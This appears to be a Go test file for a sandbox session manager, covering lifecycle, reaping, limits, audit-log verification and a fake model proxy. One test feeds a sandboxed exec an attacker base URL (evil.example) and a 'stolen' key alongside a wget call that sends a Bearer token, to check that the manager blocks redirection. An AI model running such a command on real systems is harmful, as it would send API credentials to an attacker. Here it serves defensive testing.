package session

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ironclaw/ironclaw/internal/audit"
	"github.com/ironclaw/ironclaw/internal/sandbox"
	"github.com/ironclaw/ironclaw/internal/sandbox/inside"
	"github.com/ironclaw/ironclaw/internal/sandbox/native"
	"github.com/ironclaw/ironclaw/internal/store"
	"github.com/ironclaw/ironclaw/internal/testutil/leakcheck"
	"github.com/ironclaw/ironclaw/internal/testutil/stack"
)

func TestMain(m *testing.M) {
	if inside.Entered() {
		inside.Main()
	}
	leakcheck.Main(m)
}

type fixture struct {
	rt  *native.Runtime
	db  *store.Store
	log *audit.Log
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	st := stack.New(t, native.Options{})
	return &fixture{rt: st.Runtime, db: st.Store, log: st.Log}
}

func (f *fixture) manager(t *testing.T, opts Options) *Manager {
	t.Helper()
	m, err := New(context.Background(), f.rt, f.db, f.log, opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { m.Close(context.Background()) })
	return m
}

// create makes a sandbox for actor on m, failing the test if it cannot:
// for the tests where creating is the setup, not what is tested.
func create(t *testing.T, m *Manager, actor string, req CreateRequest) Info {
	t.Helper()
	info, err := m.Create(context.Background(), actor, req)
	if err != nil {
		t.Fatal(err)
	}
	return info
}

// kinds returns the audit kinds recorded for one sandbox, in order.
func (f *fixture) kinds(t *testing.T, id string) []string {
	t.Helper()
	recs, err := f.log.Tail(context.Background(), 0, 10000)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, r := range recs {
		if r.Session == id {
			out = append(out, r.Kind)
		}
	}
	return out
}

func (f *fixture) verify(t *testing.T) {
	t.Helper()
	res, err := f.log.Verify(context.Background())
	if err != nil || !res.OK {
		t.Fatalf("audit chain does not verify: %+v %v", res, err)
	}
}

func TestLifecycle(t *testing.T) {
	f := newFixture(t)
	m := f.manager(t, Options{})
	ctx := context.Background()
	info := create(t, m, "agent", CreateRequest{Labels: map[string]string{"team": "a"}})
	other := create(t, m, "agent", CreateRequest{Labels: map[string]string{"team": "b"}})
	list, _, err := m.List(ctx, ListPage{Selector: map[string]string{"team": "a"}})
	if err != nil || len(list) != 1 || list[0].ID != info.ID {
		t.Fatalf("List(team=a) = %+v, %v", list, err)
	}
	if all, _, _ := m.List(ctx, ListPage{}); len(all) != 2 {
		t.Fatalf("List() = %d sandboxes, want 2", len(all))
	}
	// Pages of one, continued by the last id, and a principal's own.
	first, more, err := m.List(ctx, ListPage{Limit: 1})
	if err != nil || len(first) != 1 || !more {
		t.Fatalf("first page: %+v %v %v", first, more, err)
	}
	second, more, err := m.List(ctx, ListPage{Limit: 1, After: first[0].ID})
	if err != nil || len(second) != 1 || more || second[0].ID == first[0].ID {
		t.Fatalf("second page: %+v %v %v", second, more, err)
	}
	if mine, _, _ := m.List(ctx, ListPage{Principal: "agent:nobody"}); len(mine) != 0 {
		t.Fatalf("another principal's listing shows %d sandboxes", len(mine))
	}
	var out bytes.Buffer
	res, err := m.Exec(ctx, "agent", info.ID, sandbox.ExecRequest{Argv: []string{"sh", "-c", "echo hi; exit 4"}, Stdout: &out})
	if err != nil || res.ExitCode != 4 || out.String() != "hi\n" {
		t.Fatalf("Exec = %+v %q %v", res, out.String(), err)
	}
	if err := m.WriteFile(ctx, "agent", info.ID, "/workspace/f", strings.NewReader("data"), 0o644); err != nil {
		t.Fatal(err)
	}
	out.Reset()
	if err := m.ReadFile(ctx, info.ID, "/workspace/f", &out); err != nil || out.String() != "data" {
		t.Fatalf("ReadFile = %q %v", out.String(), err)
	}
	if entries, err := m.ListDir(ctx, info.ID, "/workspace"); err != nil || len(entries) != 1 || entries[0].Name != "f" {
		t.Fatalf("ListDir = %+v, %v", entries, err)
	}
	if n := m.Running(); n != 2 {
		t.Fatalf("Running() = %d, want 2", n)
	}
	if err := m.Destroy(ctx, "agent", info.ID); err != nil {
		t.Fatal(err)
	}
	if n := m.Running(); n != 1 {
		t.Fatalf("Running() after Destroy = %d, want 1", n)
	}
	if err := m.Destroy(ctx, "agent", info.ID); err != nil {
		t.Fatalf("second Destroy: %v", err)
	}
	got, err := m.Get(ctx, info.ID)
	if err != nil || got.State != StateDestroyed || got.EndedAt.IsZero() {
		t.Fatalf("Get after Destroy = %+v, %v", got, err)
	}
	if _, err := m.Exec(ctx, "agent", info.ID, sandbox.ExecRequest{Argv: []string{"true"}}); !errors.Is(err, ErrNotFound) {
		t.Fatalf("Exec on a destroyed sandbox: %v", err)
	}
	if err := m.Destroy(ctx, "agent", "sbx-unknown"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("Destroy of an unknown id: %v", err)
	}
	if k := strings.Join(f.kinds(t, info.ID), " "); k != "sandbox.create sandbox.exec.intent sandbox.exec sandbox.file.write.intent sandbox.file.write sandbox.destroy" {
		t.Fatalf("audit kinds = %q", k)
	}
	_ = other
	f.verify(t)
}

func TestReapTTLAndIdle(t *testing.T) {
	f := newFixture(t)
	var mu sync.Mutex
	ends := map[string]int{}
	m := f.manager(t, Options{ReapEvery: 20 * time.Millisecond, OnEnd: func(id, state, reason string) {
		mu.Lock()
		ends[state+"/"+reason]++
		mu.Unlock()
	}})
	ctx := context.Background()
	ttl := create(t, m, "agent", CreateRequest{TTL: 300 * time.Millisecond})
	idle := create(t, m, "agent", CreateRequest{Idle: 300 * time.Millisecond})
	busy := create(t, m, "agent", CreateRequest{Idle: 300 * time.Millisecond})
	// An exec longer than the idle timeout keeps its sandbox alive.
	res, err := m.Exec(ctx, "agent", busy.ID, sandbox.ExecRequest{Argv: []string{"sleep", "0.8"}})
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("a busy sandbox was reaped under its exec: %+v %v", res, err)
	}
	for _, id := range []string{ttl.ID, idle.ID} {
		got, err := m.Get(ctx, id)
		if err != nil || got.State != StateReaped {
			t.Fatalf("%s: %+v %v, want reaped", id, got, err)
		}
	}
	if got, _ := m.Get(ctx, ttl.ID); got.EndReason != "ttl" {
		t.Fatalf("ttl reap reason %q", got.EndReason)
	}
	if got, _ := m.Get(ctx, busy.ID); got.State != StateRunning {
		t.Fatalf("busy sandbox state %q right after its exec", got.State)
	}
	if k := f.kinds(t, idle.ID); len(k) != 2 || k[1] != audit.KindSandboxReap {
		t.Fatalf("idle audit kinds %q", k)
	}
	mu.Lock()
	if ends["reaped/ttl"] != 1 || ends["reaped/idle"] != 1 {
		t.Errorf("OnEnd calls = %v", ends)
	}
	mu.Unlock()
	f.verify(t)
}

func TestMaxSandboxes(t *testing.T) {
	f := newFixture(t)
	m := f.manager(t, Options{MaxSandboxes: 2})
	ctx := context.Background()
	var wg sync.WaitGroup
	errs := make(chan error, 4)
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			_, err := m.Create(ctx, "agent", CreateRequest{})
			errs <- err
		}()
	}
	wg.Wait()
	close(errs)
	ok, limited := 0, 0
	for err := range errs {
		switch {
		case err == nil:
			ok++
		case errors.Is(err, ErrLimit):
			limited++
		default:
			t.Fatal(err)
		}
	}
	if ok != 2 || limited != 2 {
		t.Fatalf("4 concurrent creates under a maximum of 2: %d made, %d refused", ok, limited)
	}
	if _, err := m.Create(ctx, "agent", CreateRequest{Spec: sandbox.Spec{Limits: sandbox.Limits{MemoryBytes: 64 << 20}}}); !errors.Is(err, ErrLimit) {
		t.Fatalf("create at the maximum: %v", err)
	}
}

func TestBadRequestLeavesNothing(t *testing.T) {
	f := newFixture(t)
	m := f.manager(t, Options{})
	ctx := context.Background()
	for _, req := range []CreateRequest{
		{Spec: sandbox.Spec{Limits: sandbox.Limits{MemoryBytes: 1}}},
		{Labels: map[string]string{"": "x"}},
		{TTL: -time.Second},
	} {
		if _, err := m.Create(ctx, "agent", req); !errors.Is(err, sandbox.ErrInvalidSpec) {
			t.Errorf("Create(%+v) = %v, want ErrInvalidSpec", req, err)
		}
	}
	if all, _, _ := m.List(ctx, ListPage{}); len(all) != 0 {
		t.Fatalf("bad requests left %d sandboxes", len(all))
	}
	recs, _ := f.log.Tail(ctx, 0, 100)
	if len(recs) != 0 {
		t.Fatalf("bad requests were audited as creates: %d records", len(recs))
	}
}

// A daemon that died leaves rows "running"; the next run marks them lost
// and the chain still verifies.
func TestRestartMarksLost(t *testing.T) {
	f := newFixture(t)
	ctx := context.Background()
	first, err := New(ctx, f.rt, f.db, f.log, Options{Owner: "run-first"})
	if err != nil {
		t.Fatal(err)
	}
	info := create(t, first, "agent", CreateRequest{})
	// The first run "dies": its reaper stops, nothing is destroyed through it.
	first.once.Do(func() { close(first.stop) })
	<-first.done

	second := f.manager(t, Options{Owner: "run-second"})
	got, err := second.Get(ctx, info.ID)
	if err != nil || got.State != StateLost || !strings.Contains(got.EndReason, "run-first") {
		t.Fatalf("after restart: %+v %v", got, err)
	}
	if k := strings.Join(f.kinds(t, info.ID), " "); k != "sandbox.create sandbox.lost" {
		t.Fatalf("audit kinds = %q", k)
	}
	f.verify(t)
}

func TestConcurrentExecs(t *testing.T) {
	f := newFixture(t)
	m := f.manager(t, Options{})
	ctx := context.Background()
	const boxes, per = 10, 5
	var ids []string
	for i := 0; i < boxes; i++ {
		info := create(t, m, "agent", CreateRequest{})
		ids = append(ids, info.ID)
	}
	var wg sync.WaitGroup
	errs := make(chan error, boxes*per)
	for _, id := range ids {
		for j := 0; j < per; j++ {
			wg.Add(1)
			go func(id string, j int) {
				defer wg.Done()
				var out bytes.Buffer
				res, err := m.Exec(ctx, "agent", id, sandbox.ExecRequest{Argv: []string{"echo", fmt.Sprint(j)}, Stdout: &out})
				if err != nil || res.ExitCode != 0 || out.String() != fmt.Sprintf("%d\n", j) {
					errs <- fmt.Errorf("%s exec %d: %+v %q %v", id, j, res, out.String(), err)
				}
			}(id, j)
		}
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	// Each exec's result record is queued behind its answer (its intent
	// was durable before it ran): wait for the last ones to be committed.
	n := 0
	for deadline := time.Now().Add(10 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		n = 0
		recs, _ := f.log.Tail(ctx, 0, 1000)
		for _, r := range recs {
			if r.Kind == audit.KindSandboxExec {
				n++
			}
		}
		if n >= boxes*per || time.Now().After(deadline) {
			break
		}
	}
	if n != boxes*per {
		t.Fatalf("%d exec records, want %d", n, boxes*per)
	}
	f.verify(t)
}

// fakeModel stands in for the model proxy: it answers with the token it was
// called with, if that token is live.
type fakeModel struct {
	mu     sync.Mutex
	tokens map[string]string // token -> session
}

func (f *fakeModel) Port() uint16 { return 4000 }

func (f *fakeModel) Attach(session, principal string) (string, http.Handler, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	tok := "icp_test_" + session
	f.tokens[tok] = session
	return tok, f.Handler(), nil
}

func (f *fakeModel) Revoke(session string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for t, s := range f.tokens {
		if s == session {
			delete(f.tokens, t)
		}
	}
}

func (f *fakeModel) live(tok string) bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	_, ok := f.tokens[tok]
	return ok
}

func (f *fakeModel) Handler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		if !f.live(tok) {
			http.Error(w, "revoked", http.StatusUnauthorized)
			return
		}
		fmt.Fprintf(w, "proxy %s for %s", r.URL.Path, tok)
	})
}

func TestModelProxyInsideSandbox(t *testing.T) {
	f := newFixture(t)
	model := &fakeModel{tokens: map[string]string{}}
	m := f.manager(t, Options{Model: model})
	ctx := context.Background()
	info := create(t, m, "agent", CreateRequest{})
	var out bytes.Buffer
	// A request cannot redirect the sandbox's model traffic or swap its token.
	res, err := m.Exec(ctx, "agent", info.ID, sandbox.ExecRequest{
		Argv:   []string{"sh", "-c", `echo "$OPENAI_BASE_URL $ANTHROPIC_BASE_URL"; wget -qO- --header "Authorization: Bearer $OPENAI_API_KEY" "$OPENAI_BASE_URL/models"`},
		Env:    []string{"OPENAI_BASE_URL=http://evil.example/v1", "OPENAI_API_KEY=stolen"},
		Stdout: &out,
	})
	want := "http://127.0.0.1:4000/openai/v1 http://127.0.0.1:4000/anthropic\nproxy /openai/v1/models for icp_test_" + info.ID
	if err != nil || res.ExitCode != 0 || out.String() != want {
		t.Fatalf("inside: %q (exit %d, %v), want %q", out.String(), res.ExitCode, err, want)
	}
	tok := "icp_test_" + info.ID
	if !model.live(tok) {
		t.Fatal("token not live while the sandbox runs")
	}
	if err := m.Destroy(ctx, "agent", info.ID); err != nil {
		t.Fatal(err)
	}
	if model.live(tok) {
		t.Fatal("the sandbox's proxy token outlived it")
	}
}

func TestCreateRecordsEnvNamesOnly(t *testing.T) {
	f := newFixture(t)
	m := f.manager(t, Options{})
	ctx := context.Background()
	info := create(t, m, "agent", CreateRequest{Spec: sandbox.Spec{Env: []string{"DB_PASSWORD=hunter2-not-a-pattern"}}})
	recs, _ := f.log.Tail(ctx, 0, 10)
	for _, r := range recs {
		if r.Session == info.ID && strings.Contains(string(r.Data), "hunter2") {
			t.Fatalf("an env value reached the audit log: %s", r.Data)
		}
	}
	var out bytes.Buffer
	if _, err := m.Exec(ctx, "agent", info.ID, sandbox.ExecRequest{Argv: []string{"sh", "-c", "echo $DB_PASSWORD"}, Stdout: &out}); err != nil || out.String() != "hunter2-not-a-pattern\n" {
		t.Fatalf("the sandbox lost its env: %q %v", out.String(), err)
	}
}
